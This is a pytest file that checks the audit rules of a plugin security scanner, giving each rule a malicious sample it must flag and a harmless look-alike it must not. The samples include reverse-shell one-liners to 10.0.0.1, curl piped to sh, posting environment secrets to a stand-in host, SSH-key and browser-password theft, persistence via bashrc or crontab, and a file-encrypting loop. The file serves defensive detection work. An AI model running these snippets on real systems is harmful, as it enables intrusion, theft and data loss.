"""Every audit rule: a sample it must flag (at its severity) and a look-alike it must not."""

from __future__ import annotations

import textwrap
from typing import NamedTuple

import pytest

from wiseflow._policy._audit import SEVERITIES, audit_source

RANK = {s: i for i, s in enumerate(SEVERITIES)}


class Case(NamedTuple):
    rule: str
    severity: str  # what the positive sample is rated
    positive: str
    negative: str  # a look-alike: no finding of ``rule`` at ``floor`` or above
    floor: str = "low"


def found(source: str) -> list[tuple[str, str, str, int]]:
    return audit_source(textwrap.dedent(source), "plugin.py")


def worst(source: str, rule: str) -> str | None:
    """The highest severity of ``rule`` in ``source`` (None if absent)."""
    ranks = [RANK[s] for r, s, _, _ in found(source) if r == rule]
    return SEVERITIES[max(ranks)] if ranks else None


CASES = {
    "exec of a base64 blob is critical; b64decode of data is not code": Case(
        "dynamic-code", "critical",
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64, json\ndata = json.loads(base64.b64decode('e30='))\n",
    ),
    "exec of a downloaded body is critical; parsing it as JSON is not": Case(
        "dynamic-code", "critical",
        "import requests\nexec(requests.get('https://x.org/a').text)\n",
        "import requests\nitems = requests.get('https://x.org/a').json()\n",
    ),
    "exec of a string is high; ast.literal_eval is not code execution": Case(
        "dynamic-code", "high",
        "def f(src):\n    exec(src)\n",
        "import ast\nvalue = ast.literal_eval('(1, 2)')\n",
    ),
    "exec of image pixels is critical (steganography)": Case(
        "dynamic-code", "critical",
        "from stegano import lsb\nexec(lsb.reveal('a.png'))\n",
        "from PIL import Image\nsize = Image.open('a.png').size\n",
    ),
    "marshal.loads builds a code object; json.loads does not": Case(
        "code-object", "high",
        "import marshal\ncode = marshal.loads(blob)\n",
        "import json\ndata = json.loads(blob)\n",
    ),
    "an import name built from pieces is high; a literal import_module is low": Case(
        "dynamic-import", "high",
        "import importlib\nm = importlib.import_module('sub' + 'process')\n",
        "import importlib\nm = importlib.import_module('json')\n",
        "medium",
    ),
    "a formatted name spelling socket is high; a formatted sub-package name is not": Case(
        "dynamic-import", "high",
        "import importlib\nA = 'sock'\nm = importlib.import_module(f'{A}et')\n",
        "import importlib\nPKG = 'myplugin'\nm = importlib.import_module(f'{PKG}.parsers')\n",
        "medium",
    ),
    "__import__ of a computed name is high; of a literal it is low": Case(
        "dynamic-import", "high",
        "def f(name):\n    return __import__(name)\n",
        "yaml = __import__('yaml')\n",
        "medium",
    ),
    "chr arithmetic spelling 'system' is high; a join of words is not obfuscation": Case(
        "obfuscation", "high",
        "import os\nf = getattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))\n",
        "title = ', '.join(['alpha', 'beta', 'gamma'])\n",
    ),
    "reversed and rot13 names are obfuscation; slicing a word is not": Case(
        "obfuscation", "high",
        "import codecs\nm = __import__('so'[::-1])\nn = codecs.decode('flfgrz', 'rot13')\n",
        "word = 'hello'\nhead = word[:3]\n",
    ),
    "escape-coded names are high; an ANSI colour escape is not": Case(
        "obfuscation", "high",
        'f = "\\x65\\x76\\x61\\x6c"\n',
        'RED = "\\x1b[31m"\nRESET = "\\x1b[0m"\n',
    ),
    "globals()['__builtins__'] lookups are high; globals() of a plain name is not": Case(
        "obfuscation", "high",
        "g = globals()['__builtins__']['ev' + 'al']\n",
        "handler = globals()['default_handler']\n",
    ),
    "getattr(builtins, computed) is high; getattr(self, name) is at most low": Case(
        "obfuscation", "high",
        "import builtins\ndef f(n):\n    return getattr(builtins, n)\n",
        "class A:\n    def go(self, n):\n        return getattr(self, 'on_' + n)()\n",
        "medium",
    ),
    "bidirectional text controls hide code": Case(
        "obfuscation", "high",
        "x = 1  # \u202e comment\n",
        "x = 1  # an accented comment: caf\u00e9\n",
    ),
    "pyarmor runtime is unreadable code; an ordinary import is not": Case(
        "obfuscated-code", "high",
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n",
        "from pathlib import Path\n",
    ),
    "a long base64 blob is low; a short token is not": Case(
        "encoded-blob", "low",
        f"BLOB = '{'aGVsbG8gd29ybGQh' * 12}'\n",
        "ID = 'QUJDRA=='\n",
    ),
    "__subclasses__ walks are high; __name__ is not": Case(
        "introspection", "high",
        "subs = ().__class__.__base__.__subclasses__()\n",
        "name = type(1).__name__\n",
    ),
    "a frame's globals are high; inspect.signature is not": Case(
        "introspection", "high",
        "import sys\ng = sys._getframe(1).f_globals\n",
        "import inspect\nsig = inspect.signature(print)\n",
    ),
    "ctypes is native code (critical); struct is not": Case(
        "native-code", "critical",
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 0x3000, 0x40)\n",
        "import struct\nn = struct.unpack('<I', b'\\x00\\x00\\x00\\x01')\n",
    ),
    "raw sockets are high; socket.gethostname alone is at most low": Case(
        "raw-network", "high",
        "import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 80))\n",
        "import socket\nlabel = socket.gethostname()\n",
    ),
    "a socket that only reserves a local port is medium; one that connects is raw-network": Case(
        "local-socket", "medium",
        "import socket\nwith socket.socket() as s:\n    s.bind(('127.0.0.1', 0))\n",
        "import socket\ns = socket.socket()\ns.connect(('example.org', 80))\n",
    ),
    "requests is a network capability (low); ctx.http is not flagged": Case(
        "network", "low",
        "import requests\nr = requests.get('https://api.example.org')\n",
        "def fetch(ctx):\n    return ctx.http.get('https://api.example.org').json()\n",
    ),
    "a literal git command is low; a computed shell command is high": Case(
        "subprocess", "high",
        "import os\ndef f(cmd):\n    os.system(cmd)\n",
        "import subprocess\nsubprocess.run(['git', 'log', '-n', '1'], check=True)\n",
        "medium",
    ),
    "an interactive shell is high; a literal program is low": Case(
        "subprocess", "high",
        "import pty\npty.spawn('/bin/sh')\n",
        "import subprocess\nsubprocess.check_output(['pandoc', '--version'])\n",
        "medium",
    ),
    "curl piped to sh is critical; curl writing a file under a literal argv is not": Case(
        "download-exec", "critical",
        "import os\nos.system('curl -s http://x.tk/i | sh')\n",
        "import subprocess\nsubprocess.run(['curl', '-fsSLO', 'https://example.org/data.csv'])\n",
    ),
    "saving a download as an executable is high; saving JSON is at most medium": Case(
        "download-exec", "high",
        "import requests\nwith open('/tmp/x.exe', 'wb') as f:\n"
        "    f.write(requests.get('http://x/y').content)\n",
        "import requests, json\nwith open('out.json', 'w') as f:\n"
        "    json.dump(requests.get('http://x/y').json(), f)\n",
        "high",
    ),
    "'pip install' run as a command is high; in an error message it is not": Case(
        "download-exec", "high",
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
        "raise ImportError('yaml support needs PyYAML: run `pip install pyyaml`')\n",
    ),
    "sending the environment out is critical; sending a record is not": Case(
        "exfiltration", "critical",
        "import os, requests\nrequests.post('https://x.org', json=dict(os.environ))\n",
        "import requests\nrequests.post('https://x.org', json={'id': 1})\n",
    ),
    "sending host data out is high; the URL from an env var is not exfiltration": Case(
        "exfiltration", "high",
        "import getpass, requests\nrequests.post('https://x.org', data=getpass.getuser())\n",
        "import os, httpx\nurl = os.environ.get('REPORT_URL')\nhttpx.post(url, json={'n': 1})\n",
    ),
    "the environment returned by a helper and posted is critical; a helper's record is not": Case(
        "exfiltration", "critical",
        "import os, requests\ndef collect():\n    return dict(os.environ)\n"
        "requests.post('https://x.org', json=collect())\n",
        "import requests\ndef collect():\n    return {'id': 1}\n"
        "requests.post('https://x.org', json=collect())\n",
    ),
    "a secret kept on self and sent by another method is critical; a count is not": Case(
        "exfiltration", "critical",
        "import os, requests\nclass A:\n    def setup(self):\n"
        "        self.key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    def run(self):\n        requests.post('https://x.org', data=self.key)\n",
        "import requests\nclass A:\n    def setup(self):\n        self.n = 3\n"
        "    def run(self):\n        requests.post('https://x.org', data=self.n)\n",
    ),
    "a token in auth headers is medium, not exfiltration-high": Case(
        "exfiltration", "critical",
        "import os, requests\nrequests.post('https://x.org', data=os.environ['API_TOKEN'])\n",
        "import os, requests\nt = os.environ['API_TOKEN']\n"
        "requests.get('https://x.org', headers={'Authorization': t})\n",
        "high",
    ),
    "reading ~/.ssh/id_rsa is high; reading a file of one's own folder is not": Case(
        "credential-access", "high",
        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        "from pathlib import Path\nwords = (Path(__file__).parent / 'words.txt').read_text()\n",
    ),
    "the keyring is high; hashlib is not": Case(
        "credential-access", "high",
        "import keyring\npw = keyring.get_password('svc', 'me')\n",
        "import hashlib\nh = hashlib.sha256(b'x').hexdigest()\n",
    ),
    "a browser login query is high; an ordinary SQL query is not": Case(
        "credential-access", "high",
        "cur.execute('SELECT origin_url, password_value FROM logins')\n",
        "cur.execute('SELECT kind, COUNT(*) FROM records GROUP BY kind')\n",
    ),
    "appending to ~/.bashrc is critical; writing to a temp file is not": Case(
        "persistence", "critical",
        "import os\nwith open(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a') as f:\n"
        "    f.write('x')\n",
        "import tempfile\nwith tempfile.TemporaryFile('w') as f:\n    f.write('x')\n",
    ),
    "a .pth file in site-packages is critical; reading a .txt is not": Case(
        "persistence", "critical",
        "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')\n",
        "text = open('notes.txt').read()\n",
    ),
    "a crontab entry is critical; a cron-like schedule string is not persistence": Case(
        "persistence", "critical",
        "import subprocess\nsubprocess.run('(crontab -l; echo x) | crontab -', shell=True)\n",
        "SCHEDULE = '*/10 * * * *'\n",
    ),
    "a socket dup'ed onto stdio is a reverse shell; dup2 of a pipe is medium": Case(
        "reverse-shell", "critical",
        "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n",
        "import os\nr, w = os.pipe()\nos.dup2(w, 1)\n",
        "high",
    ),
    "a /dev/tcp command is critical; a TCP port constant is not": Case(
        "reverse-shell", "critical",
        "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
        "PORT = 4444\n",
    ),
    "a detached program with every stream discarded is high; capture_output is not": Case(
        "silent-process", "high",
        "import subprocess\nsubprocess.Popen(['x'], stdin=subprocess.DEVNULL, "
        "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
        "import subprocess\nsubprocess.run(['git', 'status'], capture_output=True)\n",
    ),
    "discarding output alone is medium; it is not silent execution at high": Case(
        "silent-process", "medium",
        "import subprocess\nsubprocess.run(['git', 'fetch'], stdout=subprocess.DEVNULL, "
        "stderr=subprocess.DEVNULL)\n",
        "import subprocess\nsubprocess.run(['git', 'fetch'], stdout=subprocess.DEVNULL, "
        "stderr=subprocess.DEVNULL)\n",
        "high",
    ),
    "a mining pool is critical; the word 'mining' is not": Case(
        "cryptominer", "critical",
        "import os\nos.system('./xmrig -o stratum+tcp://pool:3333')\n",
        "TOPIC = 'text mining of changelogs'\n",
    ),
    "the clipboard is high; reading stdin is not": Case(
        "spyware", "high",
        "import pyperclip\nclip = pyperclip.paste()\n",
        "import sys\nline = sys.stdin.readline()\n",
    ),
    "low bits of image pixels are steganography; thumbnails are not": Case(
        "steganography", "high",
        "from PIL import Image\nimg = Image.open('a.png')\n"
        "bits = ''.join(str(p[0] & 1) for p in img.getdata())\n",
        "from PIL import Image\nim = Image.open('a.png')\nim.thumbnail((64, 64))\n",
    ),
    "overriding the install command is high; a plain setup() is not": Case(
        "install-hook", "high",
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    pass\nsetup(name='x', cmdclass={'install': I})\n",
        "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages())\n",
    ),
    "a Discord webhook is high; an API URL is not": Case(
        "suspicious-url", "high",
        "URL = 'https://discord.com/api/webhooks/1/abc'\n",
        "URL = 'https://api.github.com/repos'\n",
    ),
    "a raw public IP URL is medium; localhost is not": Case(
        "suspicious-url", "medium",
        "URL = 'http://185.10.10.10/x'\n",
        "URL = 'http://127.0.0.1:8080/health'\n",
    ),
    "a public-IP lookup is medium fingerprinting; a weather API is not": Case(
        "fingerprint", "medium",
        "IP = 'https://api.ipify.org?format=json'\n",
        "API = 'https://api.weather.gov/points'\n",
    ),
    "an absolute path read is low file access; a relative one is not": Case(
        "file-access", "low",
        "hosts = open('/etc/hosts').read()\n",
        "data = open('data/words.txt').read()\n",
    ),
    "sys.path changes are medium; reading sys.path is not": Case(
        "import-path", "medium",
        "import sys\nsys.path.insert(0, '/tmp/x')\n",
        "import sys\nfirst = sys.path[0]\n",
    ),
    "a secret-named variable is medium; a plain one is low": Case(
        "environment", "medium",
        "import os\nk = os.environ.get('AWS_SECRET_ACCESS_KEY')\n",
        "import os\nh = os.environ.get('HOME')\n",
        "medium",
    ),
    "the whole environment is medium; copying it for a child's env is the same, not high": Case(
        "environment-dump", "medium",
        "import os\nblob = str(dict(os.environ))\n",
        "import os\nlang = os.environ.get('LANG')\n",
    ),
    "removing the home folder is high; list.remove is not": Case(
        "destruction", "high",
        "import shutil\nshutil.rmtree('~')\n",
        "items = [1, 2]\nitems.remove(1)\n",
    ),
    "looking for debuggers or VMs is evasion; naming a process is not": Case(
        "evasion", "medium",
        "BAD = ['wireshark.exe', 'x64dbg.exe', 'vboxservice.exe']\n",
        "WORKERS = ['wiseflow-worker', 'python3']\n",
    ),
    "an embedded GitHub token is medium; a token read from ctx.secret is not": Case(
        "credential-access", "medium",
        "GH = 'ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789'\n",
        "def token(ctx):\n    return ctx.secret('GITHUB_TOKEN')\n",
    ),
    "executable memory is native code; an ordinary mmap is not": Case(
        "native-code", "critical",
        "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)\n",
        "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ)\n",
    ),
    "deleting one's own file is medium; deleting a temp file is not": Case(
        "destruction", "medium",
        "import os\nos.remove(__file__)\n",
        "import os, tempfile\nfd, p = tempfile.mkstemp()\nos.remove(p)\n",
    ),
    "a listening server is high; an HTTP client request is not raw networking": Case(
        "raw-network", "high",
        "import http.server\nhttp.server.HTTPServer(('0.0.0.0', 8081), H).serve_forever()\n",
        "import http.client\nc = http.client.HTTPSConnection('api.example.org')\n",
    ),
    "a module loaded from /tmp is high; one beside the plugin's own file is not": Case(
        "dynamic-import", "high",
        "import importlib.util\n"
        "spec = importlib.util.spec_from_file_location('m', '/tmp/.cache/m.py')\n",
        "import importlib.util\nfrom pathlib import Path\n"
        "spec = importlib.util.spec_from_file_location('m', Path(__file__).parent / 'm.py')\n",
        "high",
    ),
    "operator.attrgetter('system') is high; attrgetter('date') for sorting is not": Case(
        "obfuscation", "high",
        "import operator, os\nf = operator.attrgetter('system')(os)\n",
        "import operator\nkey = operator.attrgetter('date')\n",
    ),
    "an XOR decoding loop is low obfuscation; a running XOR checksum is not": Case(
        "obfuscation", "low",
        "dec = bytes(b ^ 42 for b in enc)\n",
        "def checksum(data):\n    v = 0\n    for b in data:\n        v ^= b\n    return v\n",
    ),
    "recording audio or the camera is spyware; resizing an image is not": Case(
        "spyware", "high",
        "import sounddevice as sd\nrec = sd.rec(44100)\nimport cv2\ncam = cv2.VideoCapture(0)\n",
        "import cv2\nsmall = cv2.resize(cv2.imread('a.png'), (8, 8))\n",
    ),
    "encrypting files found across home is destruction; rewriting one's own root is not": Case(
        "destruction", "high",
        "import os\nfor root, _, files in os.walk(os.path.expanduser('~')):\n"
        "    for n in files:\n        p = os.path.join(root, n)\n"
        "        data = open(p, 'rb').read()\n"
        "        open(p + '.x', 'wb').write(enc(data))\n        os.remove(p)\n",
        "import os\ndef tidy(root):\n    for base, _, files in os.walk(root):\n"
        "        for n in files:\n            p = os.path.join(base, n)\n"
        "            data = open(p, 'rb').read()\n            open(p + '.bak', 'wb').write(data)\n",
    ),
    "walking the whole home folder is medium; walking a given root is not flagged": Case(
        "file-access", "medium",
        "import os\nfor r, d, f in os.walk(os.path.expanduser('~')):\n    pass\n",
        "import os\ndef files(root):\n    for r, d, f in os.walk(root):\n        yield f\n",
    ),
    "pip.main at run time is high; importing pip's version is not": Case(
        "download-exec", "high",
        "import pip\npip.main(['install', 'x'])\n",
        "from importlib.metadata import version\nv = version('pip')\n",
    ),
    "pickle is unsafe deserialisation; json is not": Case(
        "unsafe-deserialise", "medium",
        "import pickle\nobj = pickle.loads(blob)\n",
        "import json\nobj = json.loads(blob)\n",
    ),
    "killing processes is high; os.getpid is not": Case(
        "process-control", "high",
        "import os\nos.kill(1, 9)\n",
        "import os\npid = os.getpid()\n",
    ),
    "source that does not parse is high": Case(
        "unparsable", "high",
        "def (:\n",
        "def f():\n    return 1\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES.values(), ids=list(CASES))
def test_rule_flags_its_sample(case: Case) -> None:
    """Each rule rates its positive sample at the rule's severity."""
    assert worst(case.positive, case.rule) == case.severity, found(case.positive)


@pytest.mark.parametrize("case", CASES.values(), ids=list(CASES))
def test_rule_spares_its_look_alike(case: Case) -> None:
    """Each rule leaves its benign look-alike below the case's floor."""
    got = worst(case.negative, case.rule)
    assert got is None or RANK[got] < RANK[case.floor], found(case.negative)


def test_multi_line_sink_is_reported_where_the_data_is() -> None:
    """A decoded blob passed on its own line to exec is reported on that line too."""
    lines = {
        line
        for rule, severity, _, line in found(
            "import base64\nexec(\n    base64.b64decode('cHJpbnQoMSk=')\n)\n"
        )
        if (rule, severity) == ("dynamic-code", "critical")
    }
    assert lines == {2, 3}


def test_helpers_that_exec_their_argument_are_code_sinks() -> None:
    """A lambda or function that evals its argument makes its call sites dynamic code."""
    got = found("run = lambda c: eval(c)\nrun('1 + 1')\n")
    assert ("dynamic-code", "high", 2) in {(r, s, line) for r, s, _, line in got}
    plain = found("double = lambda x: x * 2\ndouble(3)\n")
    assert not [f for f in plain if f[3] == 2]


def test_code_in_an_exec_string_is_audited_as_code() -> None:
    """exec of a literal is judged by what the literal does, reported on the exec line."""
    got = found("exec(\"import os; os.system('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')\")\n")
    assert ("reverse-shell", "critical", 1) in {(r, s, line) for r, s, _, line in got}
    quiet = found("exec('x = 1 + 1')\n")
    assert {r for r, _, _, _ in quiet} == {"dynamic-code"}


def test_python2_source_is_refused_and_still_read_line_by_line() -> None:
    """Source that does not parse is high, and its statements are still judged per line."""
    got = found("import base64\nexec base64.b64decode('aWQ=')\nprint 'x'\nlen([])\n")
    assert ("unparsable", "high") in {(r, s) for r, s, _, _ in got}
    assert {line for r, s, _, line in got if (r, s) == ("dynamic-code", "critical")} == {2}
    assert not [f for f in got if f[3] == 4]  # an ordinary line stays quiet


def test_bare_names_mean_what_they_usually_mean_unless_bound() -> None:
    """Popen(...) with no import is subprocess; a local function named system is not."""
    assert worst("Popen(['nc', '-e', '/bin/sh', 'h', '1'])\n", "reverse-shell") == "critical"
    local = "def system(x):\n    return x\nsystem('ls')\n"
    assert worst(local, "subprocess") is None


def test_every_rule_has_a_case() -> None:
    """The table covers every rule the source walk can emit."""
    import importlib
    import inspect
    import pkgutil
    import re

    import wiseflow._policy._audit as package

    emitted = set()
    for info in pkgutil.iter_modules(package.__path__):
        module = importlib.import_module(f"wiseflow._policy._audit.{info.name}")
        emitted |= set(re.findall(r'Rule\("([a-z-]+)"', inspect.getsource(module)))
        emitted |= set(re.findall(r'"([a-z-]+)", "(?:info|low|medium|high|critical)"',
                                  inspect.getsource(module)))  # fmt: skip
    covered = {c.rule for c in CASES.values()}
    covered |= {"compiled-code", "unreadable"}  # need real files: tests/test_audit_files.py
    assert emitted - set(SEVERITIES) - covered == set()
